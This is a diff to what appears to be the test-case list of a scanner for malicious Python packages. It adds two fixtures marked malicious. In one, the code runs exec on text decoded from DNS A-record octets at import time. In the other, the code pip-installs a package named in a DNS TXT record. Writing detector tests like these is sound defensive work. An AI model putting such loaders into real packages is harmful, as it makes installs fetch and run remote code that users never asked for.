@@ -89,6 +89,19 @@ CASES = [
         "import socket\n\n_name = socket.gethostbyaddr('192.0.2.7')[0]\n"
         "exec(_name.split('.')[0].replace('-', ' '))\n"), "malicious", ("PV326",),
         kind="wheel"),
+    Case("A-record octets mapped through chr by a helper in another module", "chrhelper", {
+        "chrhelper/__init__.py": "from .net import text\n\nexec(text('t.x.invalid'))\n",
+        "chrhelper/net.py": (
+            "import socket\n\n\ndef text(name):\n"
+            "    ips = socket.gethostbyname_ex(name)[2]\n"
+            "    return ''.join(map(chr, [int(o) for ip in ips for o in ip.split('.')]))\n"),
+    }, "malicious", ("PV326",), kind="wheel"),
+    Case("pip installing a requirement named in a TXT record at import", "txtpip", _init(
+        "txtpip",
+        "import subprocess, sys\nimport dns.resolver\n\n"
+        "_req = dns.resolver.resolve('r.x.invalid', 'TXT')[0].strings[0].decode()\n"
+        "subprocess.run(['pip3', 'install', '--quiet', _req])\n"), "malicious",
+        ("PV325",), kind="wheel"),
     # benign look-alikes
     Case("reverse lookup of a peer for the log and an ssh command", "peername", _init(
         "peername",
